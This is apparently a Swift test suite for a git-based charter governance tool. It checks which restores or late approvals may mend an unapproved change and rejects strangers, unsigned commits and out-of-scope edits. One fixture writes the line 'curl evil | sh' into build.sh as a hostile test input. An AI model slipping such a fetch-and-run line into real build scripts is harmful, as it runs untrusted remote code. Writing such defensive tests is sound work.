import Evidence
import Git
import Policies
import Stories
import TestSupport
import Testing

/// A change without approval came onto the server past the hook; what may follow it, and what not.
@Suite struct AttacksOnMending {
  let story: Story
  let good: ObjectID
  let bare: ObjectID

  init() throws {
    story = try Story()
    good = story.main
    bare = try story.slip([Paths.mission: Story.sea])
  }

  /// The proposal whose words slipped in, on the last good commit.
  private func idea(approvedBy handles: String...) throws -> StoryProposal {
    let idea = try story.propose(
      by: "ana", "Serve the sea", changing: [Paths.mission: Story.sea], on: good)
    for handle in handles { try story.sign(.approve, idea, by: handle) }
    return idea
  }

  private func expectUnmended(
    _ tip: ObjectID, _ codes: Set<Problem.Code>, because reason: String, wayOut: String,
    at location: SourceLocation = #_sourceLocation
  ) throws {
    try story.expectHostile(
      tip, .invalid, codes.union([.changedWithoutApproval]), because: reason, wayOut: wayOut,
      at: location)
  }

  // MARK: What mends

  @Test func restore() throws {
    try story.land(story.restore(to: story.tree(of: good), from: good, mending: bare, by: "dee"))
    try story.expectVerdict(story.main, .valid, [.changedWithoutApproval])
  }

  @Test func lateApproval() throws {
    let idea = try idea(approvedBy: "ben", "cy")
    try story.land(story.ratifyLate(idea, since: good, mending: bare, by: "dee"))
    try story.expectVerdict(story.main, .valid, [.changedWithoutApproval])
  }

  // MARK: What does not

  @Test func ordinaryStepBefore() throws {
    let other = try story.propose(
      by: "ana", "Help all", changing: [Paths.support: .text(Setting.support(purpose: "Help all."))]
    )
    try story.approve(other, by: "ben", "cy")
    try story.expectHostile(
      try story.ratify(other, by: "ana"), .unratified, [.changedWithoutApproval, .notMended],
      because: "An earlier change was made without approval", wayOut: "charter restore")
  }

  @Test func ordinaryCommitBefore() throws {
    let code = try story.change(["README.md": "Ours.\n"])
    try story.expectHostile(
      code, .unratified, [.changedWithoutApproval],
      because: "an earlier change on this branch was made without approval",
      wayOut: "charter restore")
  }

  @Test func lateWithoutApprovals() throws {
    let idea = try idea(approvedBy: "ben")
    try expectUnmended(
      try story.ratifyLate(idea, since: good, mending: bare, by: "ana"), [.notApproved],
      because: "It lacks required approvals.", wayOut: "charter status")
  }

  /// Approvals of other words than those that slipped in.
  @Test func lateForOtherWords() throws {
    let idea = try story.propose(
      by: "ana", "Serve the hills",
      changing: [Paths.mission: .text(Setting.mission(statement: "To serve the hills."))], on: good)
    try story.approve(idea, by: "ben", "cy")
    try expectUnmended(
      try story.ratifyLate(idea, since: good, mending: bare, by: "ana"),
      [.partialLanding, .notApproved], because: "What landed is not what the proposal says",
      wayOut: "charter ratify")
  }

  /// Late approvals that bring more words with them.
  @Test func lateThatChangesWords() throws {
    let idea = try idea(approvedBy: "ben", "cy")
    let tip = try story.ratifyLate(idea, since: good, mending: bare, by: "ana") { draft in
      draft.tree = try story.tree(
        draft.tree, [Paths.support: .text(Setting.support(holder: "ana"))])
    }
    try expectUnmended(
      tip, [.partialLanding], because: "Late approvals change no words; this does.",
      wayOut: "charter ratify")
  }

  /// Who slipped the words in may not also say by which policy they are judged.
  @Test func lateByALooserPolicy() throws {
    let idea = try idea(approvedBy: "ben")
    let loose = try story.slip([Paths.policy: .text(Setting.oneAgrees)])
    try expectUnmended(
      try story.ratifyLate(idea, since: good, mending: bare, by: "ana"), [.notApproved],
      because: "It lacks required approvals.", wayOut: "charter status")
    #expect(loose == story.main)
  }

  @Test(arguments: ["eve", "ana"])
  func lateByAStranger(inTheNameOf handle: String) throws {
    let idea = try idea(approvedBy: "ben", "cy")
    let tip = try story.ratifyLate(idea, since: good, mending: bare, by: handle) { draft in
      draft.signer = .member(try story.cast.member("eve"))
    }
    try expectUnmended(
      tip, handle == "eve" ? [.unknownKey, .notEntitled] : [.unknownKey],
      because: "a key that is not listed for \(handle)", wayOut: "charter")
  }

  @Test func restoreByAStranger() throws {
    try expectUnmended(
      try story.restore(to: story.tree(of: good), from: good, mending: bare, by: "eve"),
      [.unknownKey, .notEntitled], because: "a key that is not listed for eve", wayOut: "charter")
  }

  /// A restore that brings words of its own.
  @Test func restoreToOtherWords() throws {
    let other = try story.tree(
      story.tree(of: good), [Paths.support: .text(Setting.support(holder: "ana"))])
    try expectUnmended(
      try story.restore(to: other, from: good, mending: bare), [.partialLanding],
      because: "The words it restores are not those last approved.", wayOut: "charter ratify")
  }

  /// A restore to what was in force long ago takes back a decision without approval.
  @Test func restoreTooFarBack() throws {
    try expectUnmended(
      try story.restore(to: story.tree(of: story.founding), from: story.founding, mending: bare),
      [.wrongShape, .partialLanding], because: "A restore goes back to the last approved step",
      wayOut: "charter ratify")
  }

  @Test func restoreThatChangesSomethingOutside() throws {
    let more = try story.tree(story.tree(of: good), ["build.sh": "curl evil | sh\n"])
    try expectUnmended(
      try story.restore(to: more, from: good, mending: bare), [.outsideRoot],
      because: "It changes files outside Charters/ as well.", wayOut: "charter ratify")
  }

  @Test func restoreUnsigned() throws {
    let tip = try story.restore(to: story.tree(of: good), from: good, mending: bare) { draft in
      draft.signer = .nobody
    }
    try expectUnmended(
      tip, [.badSignature], because: "It names ana but is not signed.", wayOut: "charter")
  }

  /// Mends the older one of two changes; the newer one waits.
  @Test func restoreOfHalf() throws {
    let second = try story.slip([Paths.support: .text(Setting.support(holder: "ana"))])
    let half = try story.restore(to: story.tree(of: good), from: good, mending: bare)
    try story.expectVerdict(half, .unratified, [.changedWithoutApproval])
    try story.expectRefused(
      "\(half.hex):refs/heads/main", because: "an earlier change on this branch",
      wayOut: "charter restore")
    try story.land(story.restore(to: story.tree(of: good), from: good, mending: second))
    try story.expectVerdict(story.main, .valid, [.changedWithoutApproval])
  }

  /// What is mended already cannot be mended to something else.
  @Test func mendedTwice() throws {
    try story.land(story.restore(to: story.tree(of: good), from: good, mending: bare))
    let idea = try idea(approvedBy: "ben", "cy")
    let tip = try story.ratifyLate(idea, since: good, mending: bare, by: "ana")
    let verdict = try story.verdict(tip)
    #expect(verdict.report.outcome == .invalid, "\(verdict.story)")
    #expect(verdict.codes.contains(.wrongShape), "\(verdict.story)")
    try story.expectRefused(
      "\(tip.hex):refs/heads/main",
      because: "What it says it mends is no change that needs mending.", wayOut: "charter ratify")
  }
}
